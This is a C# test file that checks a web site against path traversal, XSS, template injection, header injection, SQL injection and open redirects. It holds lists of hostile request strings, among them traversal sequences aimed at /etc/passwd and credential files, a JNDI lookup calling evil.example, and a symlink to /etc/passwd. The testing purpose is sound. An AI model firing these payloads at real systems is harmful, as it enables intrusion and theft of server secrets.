using System.Net;

namespace PersecutionProfile.Web.Tests.Security;

/// <summary>Addresses of the known families of attacks: nothing of them fails, leads away or comes back as it was sent.</summary>
public class PayloadTests
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private static readonly string[] Climbs =
    [
        "../", "..\\", "..%2f", "..%2F", "%2e%2e/", "%2e%2e%2f", "%2E%2E%5C", "..%5c", "..%252f", "%252e%252e%252f", "..%c0%af",
        "%c0%ae%c0%ae%c0%af", "..%u2215", "%uff0e%uff0e%u2215",
        "....//", "....\\/", "..;/", "..%00/", "..%0d/", "..%ef%bc%8f", "%f0%80%80%af", "./", ".%2e/", "//", "/%2f/", "\\\\",
    ];

    private static readonly string[] Targets =
    [
        "etc/passwd", "site.yml", "content/site.yml", "sources.yml", "README.md", "appsettings.json",
        "PersecutionProfile.Web.dll", "proc/self/environ", "windows/win.ini", ".git/HEAD"
    ];

    private static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E", "\"><img src=x onerror=alert(1)>",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)", "%E2%80%AEgpj.exe", "{{7*7}}", "${jndi:ldap://evil.example/a}", "@(1+1)", "%0d%0aSet-Cookie:%20a=b",
        "%E5%98%8A%E5%98%8DSet-Cookie:a", "'%20OR%20'1'='1", "%80%81%FE%FF", "%", "%%%", "%1", "?q", "#x", "\u00ff\u00fe",
    ];

    private static readonly string[] Redirects =
    [
        "//evil.example", "///evil.example/", "/\\evil.example", "/%5cevil.example", "/%2f%2fevil.example",
        "/https://evil.example/", "//evil.example/countries/", "/COUNTRIES//evil.example"
    ];

    [Fact]
    public async Task No_address_fails_leads_elsewhere_or_comes_back_raw()
    {
        await using var folder = new TemporarySite().WithCountry("laos", "LA", "Laos");
        await using var site = await RunningSite.StartAsync(folder.Folder);
        string[] starts =
        [
            "/", "/countries/", "/countries/laos/", "/news/", "/assets/", "/pray/", "/topics/", "/figures/", "/search?q=",
            "/healthz/", "/exit/"
        ];
        var climbs = Climbs.SelectMany(climb => Targets.Select(target => string.Concat(Enumerable.Repeat(climb, 6)) + target));
        var addresses = starts.SelectMany(start => Scripts.Select(script => start + script))
            .Concat(starts.SelectMany(start => climbs.Select(climb => start + climb)))
            .Concat(Redirects)
            .ToArray();
        var options = new ParallelOptions { MaxDegreeOfParallelism = 4, CancellationToken = Cancel };
        await Parallel.ForEachAsync(addresses, options, async (address, cancel) =>
        {
            var answer = await site.SendAsync(
                $"GET {address.Replace(" ", "%20", StringComparison.Ordinal)} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
                cancel);
            var status = int.Parse(answer.Split(' ')[1], System.Globalization.CultureInfo.InvariantCulture);
            Assert.True(status is 200 or 301 or 303 or 400 or 404 or 429, $"{address} answers {status}");
            Assert.DoesNotContain("root:x:", answer, StringComparison.Ordinal);
            Assert.DoesNotContain("base-url:", answer, StringComparison.Ordinal);
            Assert.DoesNotContain("<script>alert", answer, StringComparison.Ordinal);
            Assert.DoesNotContain("onerror=alert(1)>", answer, StringComparison.Ordinal);
            Assert.DoesNotContain("\r\nSet-Cookie", answer, StringComparison.Ordinal);
            if (status == 301)
                Assert.Matches(@"\r\nLocation: /(?![/\\])", answer);
        });
        Assert.True(addresses.Length > 2500);
        Assert.DoesNotContain("ERR", site.Log, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(HttpStatusCode.NotFound, "/countries/laos.md")]
    [InlineData(HttpStatusCode.NotFound, "/news/link/passwd.png")]
    [InlineData(HttpStatusCode.NotFound, "/news/link/drawing.svg")]
    public async Task Nothing_of_the_folder_but_listed_photos_is_served(HttpStatusCode status, string path)
    {
        await using var site = new TemporarySite().WithCountry("laos", "LA", "Laos")
            .With("news/link/index.md",
                "---\ntitle: A\ndate: 2020-01-01\nsummary: S.\nphotos: [{file: passwd.png, alt: A, credit: B, consent: no-faces}, {file: drawing.svg, alt: A, credit: B, consent: no-faces}]\n---\nText.\n")
            .With("news/link/drawing.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>");
        File.CreateSymbolicLink(Path.Combine(site.Folder, "news/link/passwd.png"), "/etc/passwd");
        using var client = site.NewClient();
        using var response = await client.GetAsync(path, Cancel);
        Assert.Equal(status, response.StatusCode);
    }
}
